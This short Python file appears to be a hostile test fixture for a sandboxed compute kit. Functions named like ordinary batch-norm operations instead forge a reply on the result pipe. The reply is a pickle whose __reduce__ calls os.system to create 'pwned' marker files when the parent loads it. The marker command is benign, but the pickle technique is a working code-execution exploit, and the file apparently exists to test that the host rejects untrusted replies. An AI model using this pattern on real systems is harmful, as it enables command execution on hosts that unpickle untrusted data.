"""Writes its own reply, a pickle that runs a command when loaded, straight onto the reply pipe,
then stops."""
import os as _os
import pickle as _pickle
import struct as _struct
import sys as _sys


class _Payload:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/kit-pwned-forged " + KIT["victims"] + "/pwned-forged",))


def _forge():
    reply_fd = int(_sys.argv[2])
    payload = _pickle.dumps({"status": "ok", "value": _Payload(), "forbidden": []})
    for blob in (payload, b"PK\x03\x04" + payload):
        try:
            _os.write(reply_fd, _struct.pack(">Q", len(blob)) + blob)
        except OSError:
            pass
    _os._exit(0)


def batch_norm(*args, **kwargs):
    _forge()


def batch_norm_backward(*args, **kwargs):
    _forge()
